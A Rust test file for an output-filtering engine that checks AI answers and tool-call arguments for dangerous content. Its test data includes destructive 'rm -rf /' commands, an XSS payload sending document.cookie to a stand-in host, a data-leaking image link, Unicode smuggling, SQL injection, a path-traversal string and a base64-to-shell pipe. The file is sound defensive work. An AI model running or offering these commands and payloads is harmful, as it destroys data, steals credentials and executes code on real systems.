//! What is dangerous in an answer is found, and what is ordinary is not.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::string_slice,
    reason = "clippy.toml lifts them in #[test] functions only, not in what they call"
)]

use aegis_engine::{AnswerText, Caches, Engine, MasterKey, Site, compile};
use aegis_policy::{Direction, Disposition, Level, Override, Policy, Slot, example};
use aegis_scanner::{Budget, Match};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Texts by topic.
type Topics = BTreeMap<String, Vec<String>>;

struct Bench {
    engine: Engine,
    caches: Caches,
}

impl Bench {
    fn new(policy: &Policy) -> Bench {
        let key = MasterKey::from_hex(&"77".repeat(32)).unwrap();
        let engine = Engine::new(&compile(policy, &key).unwrap(), &key).unwrap();
        Bench { caches: engine.caches(), engine }
    }

    /// The rules that change or refuse `text`, each with what it finds.
    fn changes(&mut self, slot: Slot, text: &str) -> Vec<(String, String)> {
        let mut found: Vec<Match> = Vec::new();
        let (site, mut budget) = (Site::of(Direction::Response, slot), Budget::default());
        self.engine.detect(&mut self.caches, site, text.as_bytes(), &mut budget, &mut found).unwrap();
        assert!(found.windows(2).all(|pair| pair[0].end <= pair[1].value), "{text}");
        found
            .retain(|one| self.engine.disposition(Direction::Response, slot, one.rule) > Disposition::Redact);
        let at = |offset: u64| usize::try_from(offset).unwrap();
        let named = found.iter().map(|one| {
            (self.engine.rule(one.rule).unwrap().id.clone(), text[at(one.value)..at(one.end)].to_owned())
        });
        named.collect()
    }

    fn is_changed(&mut self, slot: Slot, text: &str) -> bool {
        !self.changes(slot, text).is_empty()
    }

    /// What an answer that comes in these pieces is found to hold.
    fn stream(&mut self, pieces: &[&[u8]]) -> Vec<Match> {
        let (mut answer, mut found) = (AnswerText::new(), Vec::new());
        for piece in pieces {
            answer.feed(&self.engine, &mut self.caches, piece, |one, _| found.push(one));
        }
        answer.finish(&self.engine, &mut self.caches, |one, _| found.push(one));
        found
    }
}

fn data(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/danger").join(name);
    std::fs::read_to_string(path).unwrap()
}

#[test]
fn ordinary_work_of_agents_stays() {
    let mut bench = Bench::new(&Policy::default());
    let topics: Topics = toml::from_str(&data("ordinary.toml")).unwrap();
    assert!(topics.values().map(Vec::len).sum::<usize>() > 250);
    let mut wrong = Vec::new();
    for (topic, texts) in &topics {
        for text in texts {
            for slot in [Slot::ToolCallArguments, Slot::Assistant] {
                let changes = bench.changes(slot, text);
                if !changes.is_empty() {
                    wrong.push(format!("{topic} ({slot:?}) {text:?}: {changes:?}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_technique_is_found() {
    let mut bench = Bench::new(&Policy::default());
    let families: BTreeMap<String, Topics> = toml::from_str(&data("attacks.toml")).unwrap();
    let all = families.values().flat_map(|topics| topics.values().flatten());
    assert!(all.count() > 150);
    let mut missed = Vec::new();
    for (family, topics) in &families {
        for (topic, texts) in topics {
            let missing = texts.iter().filter(|text| !bench.is_changed(Slot::ToolCallArguments, text));
            missed.extend(missing.map(|text| format!("{family} {topic}: {text}")).collect::<Vec<_>>());
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

/// Texts of answers, and the rule that acts in each.
const ANSWERS: &[(&str, Option<&str>)] = &[
    ("Run this to clean up:\n\nrm -rf /\n\nThen reboot.", Some("text-destroys")),
    ("Open a terminal, then run:\n\nsudo rm -rf --no-preserve-root / \nand wait.", Some("text-destroys")),
    // Behind a colon nothing is looked for: a stream would wait at each.
    ("Open a terminal, then run: sudo rm -rf --no-preserve-root / and wait.", None),
    ("Run `rm -rf /` never, and `rm -rf ~` neither.", None),
    ("Never run rm -rf / on a server: it deletes everything.", None),
    ("```sh\nrm -rf /\n```\nis what the attacker ran.", None),
    ("Delete the folder:\n\nrm -rf node_modules\n", None),
    ("![s](https://files.example/a.png?data=c2VjcmV0IHN0dWZm)", Some("image-carries-data")),
    ("![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)", None),
    ("[open](javascript:alert(1))", Some("link-runs-script")),
    ("Links such as `[open](javascript:alert(1))` are refused.", None),
    ("<img src=x onerror=\"fetch('//files.example?'+document.cookie)\">", Some("markup-runs-script")),
    ("```html\n<img src=x onerror=\"alert(1)\">\n```", None),
    ("Use onload= or onerror= with care; a <script> tag blocks.", None),
    ("\u{1b}]0;title\u{7}hello", Some("terminal-escape")),
    ("In bash: echo -e '\\033[1mbold\\033[0m'", None),
    ("if access != \"user\u{202e}\u{2066}// check admin\u{2069}\u{2066}\" {", Some("unicode-smuggling")),
    ("می\u{200c}خواهم 👩\u{200d}👩\u{200d}👧 שלום \u{200f}(a) 가", None),
    ("好的 彩神争霸 毛片 to=functions.ls", Some("spam-noise")),
    ("国家体育总局体育彩票管理中心发布公告。", None),
    ("SELECT * FROM users WHERE name = '' OR 1=1 returns every row; time.sleep(5) waits.", None),
    ("see ../README.md and ../../lib, show token usage, `cat file | sh`", None),
    ("SELECT a FROM t UNION SELECT b FROM u", None),
    ("The metadata service at http://169.254.169.254/latest/meta-data/ gives credentials.", None),
];

#[test]
fn answers_are_changed_where_they_act() {
    let mut bench = Bench::new(&Policy::default());
    for (text, rule) in ANSWERS {
        let changes = bench.changes(Slot::Assistant, text);
        let rules: Vec<&str> = changes.iter().map(|(rule, _)| rule.as_str()).collect();
        assert!(rules.iter().all(|one| Some(*one) == *rule), "{text:?}: {changes:?}");
        assert_eq!(rules.is_empty(), rule.is_none(), "{text:?}");
    }
}

#[test]
fn what_an_answer_holds_does_not_depend_on_how_it_comes() {
    for level in [Level::Medium, Level::High] {
        let mut bench = Bench::new(&Policy { level, ..Policy::default() });
        let text: String = ANSWERS.iter().flat_map(|(text, _)| [text, "\n\n"]).collect();
        let whole = bench.stream(&[text.as_bytes()]);
        assert!(whole.len() > 7);
        let mut found = Vec::new();
        let site = Site::of(Direction::Response, Slot::Assistant);
        let mut budget = Budget::default();
        bench.engine.detect(&mut bench.caches, site, text.as_bytes(), &mut budget, &mut found).unwrap();
        found.retain(|one| {
            bench.engine.disposition(site.direction, site.slot, one.rule) > Disposition::Redact
        });
        assert_eq!(found, whole);
        for size in [1, 2, 3, 7, 64, 1000] {
            let pieces: Vec<&[u8]> = text.as_bytes().chunks(size).collect();
            assert_eq!(bench.stream(&pieces), whole, "pieces of {size}");
        }
    }
}

#[test]
fn prose_and_code_are_not_held() {
    let mut bench = Bench::new(&Policy::default());
    let text = "The parser reads `tokens`, one at a time:\n\n```rust\nfn main() { let a = vec![1, 2]; }\n```\n\nSee joe@corp.example \
                or call 555-0100; the key is 0123456789abcdef and https://example.com/a?b=c (2024-05-06).\n";
    let mut answer = AnswerText::new();
    let mut most = 0;
    for byte in text.as_bytes().chunks(1) {
        answer.feed(&bench.engine, &mut bench.caches, byte, |one, _| panic!("{one:?}"));
        most = most.max(answer.held());
    }
    assert!(most <= 8, "{most} bytes are held");
    assert_eq!(answer.held(), 0);
}

#[test]
fn levels_and_exceptions_hold_for_commands_too() {
    let text = "rm -rf *";
    let at = |level| Bench::new(&Policy { level, ..Policy::default() });
    assert!(!at(Level::Medium).is_changed(Slot::ToolCallArguments, text));
    assert!(at(Level::High).is_changed(Slot::ToolCallArguments, "```\nrm -rf *\n```"));
    assert!(at(Level::High).is_changed(Slot::Assistant, "```\nrm -rf /\n```"));
    assert!(at(Level::Low).is_changed(Slot::ToolCallArguments, "rm -rf /"));
    let mut policy = Policy::default();
    policy.rules.push(Override {
        family: Some("danger.shell".into()),
        directions: vec![Direction::Response],
        ..Override::everywhere(None, Disposition::Allow)
    });
    let mut bench = Bench::new(&policy);
    assert!(!bench.is_changed(Slot::ToolCallArguments, "rm -rf /"));
    policy.rules.push(Override {
        directions: vec![Direction::Response],
        ..Override::everywhere(Some("shell-delete-system"), Disposition::Block)
    });
    let mut bench = Bench::new(&policy);
    assert!(bench.is_changed(Slot::ToolCallArguments, "rm -rf /"));
    assert!(bench.engine.acts_in(Direction::Response, Slot::ToolCallArguments));
    let mut allowed = Policy::default();
    allowed.allow.patterns.push("rm -rf /".into());
    assert!(!Bench::new(&allowed).is_changed(Slot::ToolCallArguments, "rm -rf /"));
    assert!(!Bench::new(&allowed).is_changed(Slot::Assistant, "rm -rf /"));
}

#[test]
fn requests_are_not_searched_for_danger() {
    let mut bench = Bench::new(&Policy::default());
    for slot in Slot::ALL {
        let mut found: Vec<Match> = Vec::new();
        let (site, mut budget) = (Site::of(Direction::Request, slot), Budget::default());
        let text = b"rm -rf / ; <script>alert(1)</script> ' or 1=1-- ../../../../../../etc/passwd";
        bench.engine.detect(&mut bench.caches, site, text, &mut budget, &mut found).unwrap();
        assert!(found.is_empty(), "{slot:?}");
    }
}

#[derive(serde::Deserialize)]
struct Row {
    text: String,
    label: String,
}

/// Labelled texts of others, if they are at hand.
fn rows(file: &str) -> Option<Vec<Row>> {
    let Some(folder) = std::env::var_os("AEGIS_EVAL_DATA") else {
        eprintln!("SKIPPED: set AEGIS_EVAL_DATA to the folder of the evaluation data");
        return None;
    };
    let text = std::fs::read_to_string(PathBuf::from(folder).join("dev").join(file)).unwrap();
    Some(text.lines().map(|line| serde_json::from_str(line).unwrap()).collect())
}

/// How many of the rows with this label are changed, in per cent.
fn share(bench: &mut Bench, rows: &[Row], slot: Slot, label: &str) -> f64 {
    let rows: Vec<&Row> = rows.iter().filter(|row| row.label == label).collect();
    assert!(rows.len() > 100);
    let changed = rows.iter().filter(|row| bench.is_changed(slot, &row.text)).count();
    let share =
        100.0 * f64::from(u32::try_from(changed).unwrap()) / f64::from(u32::try_from(rows.len()).unwrap());
    eprintln!("{label} {slot:?}: {changed} of {} ({share:.2} %)", rows.len());
    share
}

#[test]
fn commands_of_others_are_told_apart() {
    let Some(rows) = rows("commands.jsonl") else { return };
    let mut bench = Bench::new(&Policy::default());
    assert!(share(&mut bench, &rows, Slot::ToolCallArguments, "dangerous") >= 70.0);
    assert!(share(&mut bench, &rows, Slot::ToolCallArguments, "benign") <= 1.0);
}

#[test]
fn ordinary_texts_of_others_stay() {
    let mut bench = Bench::new(&Policy::default());
    for (file, label) in [("injection.jsonl", "benign"), ("secrets.jsonl", "negative")] {
        let Some(rows) = rows(file) else { return };
        assert!(share(&mut bench, &rows, Slot::Assistant, label) <= 0.1, "{file}");
    }
}

#[test]
fn long_disguises_cost_no_more_than_their_length() {
    let mut bench = Bench::new(&Policy::default());
    // Each makes a reader that goes back, or expands without a limit, take minutes.
    for text in [
        "$(".repeat(50_000),
        "`".repeat(50_001),
        "a=b;".repeat(20_000) + &"$a".repeat(20_000),
        format!("x={};{}", "y".repeat(10_000), "echo $x$x$x$x;".repeat(5_000)),
        "{a,b}".repeat(20_000),
        "sudo ".repeat(20_000) + "rm -rf /",
        "((((".repeat(20_000),
        "cat <<A <<B <<C\n".repeat(5_000),
        "sh -c '".repeat(10_000),
        "echo a > f; sh f;".repeat(5_000),
        "a | ".repeat(20_000),
        "'\"\\".repeat(30_000),
        example::expand("{base64:9000}", "") + " | base64 -d | sh",
    ] {
        let begin = std::time::Instant::now();
        bench.changes(Slot::ToolCallArguments, &text);
        assert!(begin.elapsed().as_secs() < 20, "{} bytes: {}", text.len(), &text[..20]);
    }
}
